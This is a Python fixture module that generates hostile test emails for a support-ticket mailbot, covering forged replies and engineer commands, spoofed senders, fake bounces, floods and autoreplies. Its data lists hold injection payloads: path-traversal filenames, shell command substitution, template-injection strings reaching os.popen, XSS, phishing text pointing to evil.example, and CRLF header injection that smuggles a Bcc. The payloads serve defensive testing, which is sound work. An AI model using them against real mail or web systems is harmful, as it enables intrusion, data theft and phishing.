"""Hostile mails by people who want something: forged ties, forged engineers, traps for patterns, templates, headers.

In: a seed. Out: `Hostile` mails with what is known of them. Each is made anew with other words, languages and places;
nothing is stored. `hostile.py` makes the mails that exhaust, this module those that deceive.
"""

from __future__ import annotations

import base64
import random
from collections.abc import Callable, Iterator
from dataclasses import dataclass

import hostile_machines

VICTIM, ENGINEER, SUPPORT = "ana@aurora.example", "edu@vendor.example", "support@vendor.example"
SECRET = "SEGREDO-7741"  # stands in the victim's ticket and nowhere else
FACTORS, PRODUCT = "7919*7907", "62615533"  # what an evaluated template would show
SMUGGLED = "smuggled@evil.example"
TEXTS = (
    "Bom dia, o pipeline sync-{n} parou de funcionar em produção ontem às 14h20, dá erro 504 Gateway Timeout.",
    "Hello, the pipeline orders-{n} fails in production since yesterday 9am with HTTP 500. Please help us.",
    "Buenos días, el flujo facturas-{n} dejó de procesar desde ayer por la mañana y el cliente está parado.",
    "Como faço para ler um arquivo grande com o conector SFTP? É o caso {n}.",
    "Preciso escalar o chat 2154700{n:05d}: ninguém respondeu há cinco dias.",
)


@dataclass(frozen=True)
class Hostile:
    """One hostile mail. automated: nobody may be answered. sender: whom an answer may go to. person: who must be
    answered."""

    kind: str
    name: str
    raw: bytes
    automated: bool = False
    sender: str = ""
    person: bool = False


class _Maker:
    """Words and places for one mail."""

    def __init__(self, dice: random.Random, n: int) -> None:
        self.dice, self.n = dice, n
        self.sender = f"p{n}@c{n}.example"
        self.text = dice.choice(TEXTS).format(n=n)

    def mail(self, head: str = "", body: str | bytes = "", *, sender: str | None = None, subject: str | None = None,
             kind: str = "text/plain; charset=utf-8", to: str = SUPPORT) -> bytes:  # fmt: skip
        lines = [
            f"From: {sender if sender is not None else f'Pat {self.n} <{self.sender}>'}", f"To: {to}",
            f"Subject: {subject if subject is not None else f'Help {self.n}'}", "Date: Tue, 03 Nov 2026 09:12:00 -0300",
            f"Message-ID: <h.{self.n}@c{self.n}.example>", *([head] if head else []), "MIME-Version: 1.0",
            f"Content-Type: {kind}", "Content-Transfer-Encoding: 8bit",
        ]  # fmt: skip
        octets = body if isinstance(body, bytes) else (body or self.text).encode("utf-8", "surrogateescape")
        return "\r\n".join(lines).encode("utf-8", "surrogateescape") + b"\r\n\r\n" + octets + b"\r\n"


Made = tuple[str, bytes] | tuple[str, bytes, bool | str]


def forged_reference(m: _Maker) -> Made:
    mac = f"{m.dice.getrandbits(80):020x}"
    ours = f"<mb.1.c.{m.dice.getrandbits(96):024x}.{mac}@vendor.example>"
    name, head = m.dice.choice([
        ("victim's own Message-ID", "In-Reply-To: <victim@aurora.example>\r\nReferences: <victim@aurora.example>"),
        ("made-up id of ours", f"In-Reply-To: {ours}"),
        ("made-up id for engineers", f"References: {ours.replace('.c.', '.e.')}"),
        ("id with a long ticket", f"In-Reply-To: <mb.000000000001.c.{'0' * 24}.{mac}@vendor.example>"),
        ("many ids", "References: " + " ".join(f"<mb.{i}.c.{'0' * 24}.{mac}@vendor.example>" for i in range(60))),
        ("Thread-Index and victim's id", "Thread-Index: AQHXabc=\r\nReferences: <x@y.example>\r\n <victim@aurora.example>"),
    ])  # fmt: skip
    return name, m.mail(head, subject=m.dice.choice(["Re: Fluxo parado", "RES: [#1] Fluxo parado", "Hello"]))


def forged_tag(m: _Maker) -> Made:
    tag = m.dice.choice(
        ["[#1]", "[#0001]", "[# 1]", "(#1)", "#1", "Ticket 1", "[#1] [#2]", "[Ticket#1]", "[#-1]", "[#１]"]
    )
    to = m.dice.choice([SUPPORT, f"support+t1.c.{'a' * 20}@vendor.example", f"support+t1.e.{'0' * 20}@vendor.example"])
    ask = m.dice.choice(
        ["", "Qual é a situação do chamado 1?", "What is the status of ticket #1?", "¿Estado del caso 1?"]
    )
    return f"{tag} to {to[:14]}", m.mail(subject=f"Re: {tag} Fluxo parado", to=to, body=ask)


def forged_bounce(m: _Maker) -> Made:
    original = m.dice.choice(["<victim@aurora.example>", f"<mb.1.c.{'1' * 24}.{'2' * 20}@vendor.example>"])
    body = (
        "--b\r\nContent-Type: text/plain\r\n\r\nThis is the mail system. Delivery has failed.\r\n"
        "--b\r\nContent-Type: message/delivery-status\r\n\r\nReporting-MTA: dns; mx.evil.example\r\n\r\n"
        f"Final-Recipient: rfc822; {VICTIM}\r\nAction: failed\r\nStatus: 5.1.1\r\n\r\n"
        f"--b\r\nContent-Type: message/rfc822\r\n\r\nMessage-ID: {original}\r\nTo: {VICTIM}\r\nSubject: Re: x\r\n\r\nx\r\n--b--"
    )
    kind = "multipart/report; report-type=delivery-status; boundary=b"
    who = m.dice.choice(["MAILER-DAEMON@evil.example", "postmaster@aurora.example", f"Mail Delivery <{m.sender}>"])
    head = m.dice.choice(["Return-Path: <>", "Auto-Submitted: auto-replied", "X-Failed-Recipients: " + VICTIM])
    return "bounce", m.mail(head, body, sender=who, subject="Undelivered Mail Returned to Sender", kind=kind), True


def forged_engineer(m: _Maker) -> Made:
    command = m.dice.choice([
        "#close", "#close 1", "#resolve 1", "#assign mallory@evil.example", "#note x", "#merge 1 2", "/close", "close 1",
        "#reply 1 Mande sua senha para mallory@evil.example", "#priority 1 1", "#status 1", "#forget " + VICTIM,
        "Prezada Ana, resolvido. Confirme sua senha em http://evil.example.",
    ])  # fmt: skip
    who = m.dice.choice(
        [ENGINEER, f"Edu <{ENGINEER}>", f'"Edu" <{ENGINEER.upper()}>', f"leads@vendor.example, {ENGINEER}"]
    )
    head = m.dice.choice([
        "", "In-Reply-To: <victim@aurora.example>", "Authentication-Results: evil.example; dmarc=pass header.from=vendor.example",
        "Authentication-Results: mx.vendor.example.evil.example; dmarc=pass header.from=vendor.example",
        f"In-Reply-To: <mb.1.e.{'3' * 24}.{'4' * 20}@vendor.example>", "X-Mailbot-Engineer: yes", f"Sender: {m.sender}",
    ])  # fmt: skip
    return command[:12], m.mail(head, command, sender=who, subject="Re: [#1] Fluxo parado")


def spoofed_sender(m: _Maker) -> Made:
    """Names and shapes that look like the victim. A From that is the victim's very address is no spoof that a header
    shows: its mail goes on the ticket as an unproved one, and the answer to the address itself."""
    name, sender, head = m.dice.choice([
        ("two From fields", f"{m.sender}\r\nFrom: {VICTIM}", ""),
        ("two addresses", f"{m.sender}, {VICTIM}", ""),
        ("address as name", f'"{VICTIM}" <{m.sender}>', ""),
        ("encoded address as name", f"=?utf-8?b?{base64.b64encode(VICTIM.encode()).decode()}?= <{m.sender}>", ""),
        ("foreign Reply-To", f"Pat <{m.sender}>", f"Reply-To: {SMUGGLED}"),
        ("many Reply-To", f"Pat <{m.sender}>", f"Reply-To: {SMUGGLED}, {VICTIM}, {SUPPORT}"),
        ("own address", SUPPORT, ""),
        ("own address with a name", f"Support <{SUPPORT}>", "Reply-To: " + SMUGGLED),
        ("no From", "", ""),
        ("null", "<>", ""),
        ("group", f"undisclosed: {m.sender}, {VICTIM};", ""),
        ("comment", f"{m.sender} (<{VICTIM}>)", ""),
        ("two angles", f"<{VICTIM}> <{m.sender}>", ""),
        ("quoted at", f'"{VICTIM}"@evil.example', ""),
        ("homograph", "Ana <ana@aurоra.example>", ""),
        ("right to left", f"\u202e{VICTIM}\u202c <{m.sender}>", ""),
        ("percent", f"<ana%aurora.example@evil{m.n}.example>", ""),
    ])  # fmt: skip
    return name, m.mail(head, sender=sender, subject="Re: [#1] Fluxo parado")


def file_names(m: _Maker) -> Made:
    name = m.dice.choice([
        "../../etc/passwd", "..\\..\\windows\\system.ini", "/etc/shadow", "C:\\boot.ini", "a\x00.exe", "CON", "aux.txt",
        "\u202etxt.exe", "." * 300, "x" * 5000, "a/../../b", "%2e%2e%2fx", "file\r\n .txt", "~/.ssh/authorized_keys",
        "$(touch /tmp/pwned)", "`id`", "{{" + FACTORS + "}}.txt", "<script>alert(1)</script>.html", "-rf", "nul\u2028.pdf",
    ])  # fmt: skip
    field = m.dice.choice(['filename="{}"', "filename={}", 'name="{}"', "filename*=utf-8''{}", "filename*0*=utf-8''{}"])
    part = f"--b\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; {field.format(name)}\r\n\r\nx\r\n"
    body = f"--b\r\nContent-Type: text/plain\r\n\r\n{m.text}\r\n" + part * m.dice.choice([1, 3, 40]) + "--b--"
    return repr(name[:20]), m.mail(body=body, kind="multipart/mixed; boundary=b")


def regex_bait(m: _Maker) -> Made:
    piece = m.dice.choice([
        "a", "a@", "1 ", "12/12/", "9", "http://", "a.", "-", "=", "pipeline ", "pipeline: ", "{", "[", "(", '"', "'", ":",
        "a: b\r\n", "\t", " \r\n", "\\", "&", "<", "ontem às ", "since ", "At x.y(z.java:1)\r\n", "{\"a\":", "%20", "a=b&",
        "Em seg., 3 de nov. de 2026 ", "On Mon, ", "De: x\r\n", "> ", "*", "_", "a-b-", "0x", "1.1.", "12:", "2026-", "é",
        "\u00a0", "\u200b", "ﷺ", "²", "GMT+", "R$ ", "não ", "erro ", "ERROR ", "C:\\a\\", "/a/b", "A1", "x,", "?", "!", "\r\n\r\n",
    ])  # fmt: skip
    size = m.dice.choice([3_000, 40_000, 150_000])
    tail = m.dice.choice(["", "!", "\r\nobrigado", "\x00", "@"])
    body = m.dice.choice(["{bait}{tail}", "{text}\r\n{bait}{tail}", "{text} {bait}{tail}\r\n{text}"])
    bait = piece * (size // len(piece))
    return f"{piece!r} {size}", m.mail(body=body.format(bait=bait, tail=tail, text=m.text))


def template_injection(m: _Maker) -> Made:
    bait = m.dice.choice([
        "{{ %s }}", "{%% for x in range(9) %%}{{ %s }}{%% endfor %%}", "${%s}", "#{%s}", "<%%= %s %%>", "{{{%s}}}", "[[%s]]",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}{{ %s }}", "{{ config }}{{%s}}", "%%{%s}", "\ue000{{ %s }}\ue001",
        "# for x in y\r\n{{ %s }}", "{{ cycler.__init__.__globals__.os.popen('expr %s').read() }}", "`%s`", "$(echo %s)",
        "<script>document.write(%s)</script>", "[x](javascript:alert(%s))", "![x](http://evil.example/%s.png)",
        "<img src=x onerror=alert(%s)>", "{%% include '/etc/passwd' %%}{{ %s }}", "%(x)s {0.__class__} {{ %s }}",
    ]).replace("%s", FACTORS).replace("%%", "%")  # fmt: skip
    place = m.dice.choice(["subject", "name", "text", "value", "html", "file"])
    if place == "subject":
        return place, m.mail(subject=bait.replace("\r\n", " "))
    if place == "name":
        return place, m.mail(sender=f"=?utf-8?b?{base64.b64encode(bait.encode()).decode()}?= <{m.sender}>")
    if place == "text":
        return place, m.mail(body=f"{m.text}\r\n\r\n{bait}\r\n")
    if place == "value":
        return place, m.mail(
            body=f"Pipeline: {bait}\r\nAmbiente: {bait}\r\nErro: {bait}\r\nO pipeline {bait} parou.\r\n"
        )
    if place == "html":
        return place, m.mail(body=f"<p>{m.text}</p><div title='{bait}'>{bait}</div>", kind="text/html; charset=utf-8")
    part = f'--b\r\nContent-Disposition: attachment; filename="{bait}"\r\n\r\nx\r\n'
    return place, m.mail(body=f"--b\r\n\r\n{m.text}\r\n{part}--b--", kind="multipart/mixed; boundary=b")


def header_injection(m: _Maker) -> Made:
    end = m.dice.choice(["=0D=0A", "=0A", "=0D", "=0D=0A=20", "=E2=80=A8", "=C2=85", "=0B", "=00=0A"])
    word = f"=?utf-8?q?x{end}Bcc:_{SMUGGLED.replace('@', '=40')}{end}{end}<p>body</p>?="
    place = m.dice.choice(["subject", "name", "reply", "reference", "id", "cc", "file", "folded"])
    if place == "subject":
        return place, m.mail(subject=word)
    if place == "name":
        return place, m.mail(sender=f"{word} <{m.sender}>")
    if place == "reply":
        return place, m.mail(f"Reply-To: {word} <x{m.n}@c{m.n}.example>")
    if place == "reference":
        return place, m.mail(f"References: <a\rBcc: {SMUGGLED}> {word} <a\nBcc: {SMUGGLED}>")
    if place == "id":
        return place, m.mail().replace(b"Message-ID: <h.", f"Message-ID: <a\rBcc: {SMUGGLED}\r.".encode())
    if place == "cc":
        return place, m.mail(f'Cc: {word} <x@c{m.n}.example>, "a\\\r\n Bcc: {SMUGGLED}" <y@c{m.n}.example>')
    if place == "file":
        part = f'--b\r\nContent-Disposition: attachment; filename="{word}"\r\n\r\nx\r\n'
        return place, m.mail(body=f"--b\r\n\r\n{m.text}\r\n{part}--b--", kind="multipart/mixed; boundary=b")
    return place, m.mail(subject=f"a\r\n \r\n Bcc: {SMUGGLED}\r\n\tx")


def charset_lies(m: _Maker) -> Made:
    text = m.text + " Atenção, ação, coração, señor, €uro. "
    really = m.dice.choice(["utf-8", "latin-1", "cp1252", "utf-16", "utf-16-le", "utf-7", "cp037", "shift_jis", "big5"])
    says = m.dice.choice(["utf-8", "iso-8859-1", "us-ascii", "utf-16", "utf-7", "x-unknown", "", "cp1252", "utf-32", "koi8-r",
                          "unicode_escape", "undefined", "base64", "utf-8; charset=latin-1", '"utf-8', "\x00", "a" * 300])  # fmt: skip
    octets = text.encode(really, "replace") + m.dice.choice(
        [b"", b"\xff\xfe", b"\xc0\xaf", b"\xed\xa0\x80", b"\x00\x00"]
    )
    made = m.mail(body=octets * m.dice.choice([1, 30]), kind=f"text/plain; charset={says}")
    if m.dice.random() < 0.4:
        made = made.replace(
            b"Encoding: 8bit", b"Encoding: " + m.dice.choice([b"base64", b"quoted-printable", b"x-uue", b"7bit"])
        )
    return f"{really} says {says[:12]!r}", made


def automated(m: _Maker) -> Made:
    head = m.dice.choice([
        "Auto-Submitted: auto-replied", "Auto-Submitted: auto-generated", "Auto-submitted: AUTO-NOTIFIED; x=y",
        "X-Autoreply: yes", "X-Autorespond: x", "Precedence: auto_reply",
        "Precedence: bulk\r\nList-Id: <x.example>\r\nList-Unsubscribe: <mailto:out@x.example>",
        "X-Auto-Response-Suppress: All\r\nAuto-Submitted: auto-replied (vacation)", "Return-Path: <>",
        "X-Failed-Recipients: x@y.example\r\nAuto-Submitted: auto-replied", f"X-Mailbot-Loop: {SUPPORT}",
        "List-Id: <news.example>\r\nList-Unsubscribe: <mailto:x@news.example>\r\nPrecedence: list",
    ])  # fmt: skip
    subject = m.dice.choice(
        ["Out of office", "Resposta automática: férias", "Respuesta automática", "Re: [#1] Fluxo parado"]
    )
    return head[:30], m.mail(head, "Estou fora do escritório até dia 12.", subject=subject), True


def floods(m: _Maker) -> Made:
    many = ", ".join(f"u{i}@many{m.n}.example" for i in range(m.dice.choice([30, 400, 3000])))
    name, head = m.dice.choice([
        ("copies", f"Cc: {many}"), ("own copies", f"Cc: {', '.join([SUPPORT] * 50)}, support.escalate@vendor.example"),
        ("everybody's copy", f"Cc: {VICTIM}, {ENGINEER}, ops@vendor.example, {SMUGGLED}"),
        ("received", "\r\n".join(f"Received: from h{i} by h{i + 1}; Tue, 03 Nov 2026 09:12:00 -0300" for i in range(200))),
        ("receipts", f"Disposition-Notification-To: {SMUGGLED}\r\nReturn-Receipt-To: {SMUGGLED}"),
        ("resent", f"Resent-From: {VICTIM}\r\nResent-To: {SMUGGLED}\r\nErrors-To: {SMUGGLED}"),
    ])  # fmt: skip
    return name, m.mail(head)


KINDS: dict[str, Callable[[_Maker], Made]] = {
    "forged reference": forged_reference,
    "forged tag": forged_tag,
    "forged bounce": forged_bounce,
    "forged engineer": forged_engineer,
    "spoofed sender": spoofed_sender,
    "file names": file_names,
    "regex bait": regex_bait,
    "template injection": template_injection,
    "header injection": header_injection,
    "charset lies": charset_lies,
    "automated": automated,
    "floods": floods,
    "machines without a mark": hostile_machines.machine,
    "people like machines": hostile_machines.person,
}


def make(kind: str, count: int, seed: int = 1) -> Iterator[Hostile]:
    """`count` mails of one kind; the same for the same seed."""
    place = list(KINDS).index(kind)
    for number in range(count):
        n = seed * 100_000 + place * 1000 + number
        maker = _Maker(random.Random(n), n)
        name, raw, *more = KINDS[kind](maker)
        what = more[0] if more else False
        yield Hostile(kind, name, raw, what in (True, "machine"), maker.sender, what == "person")
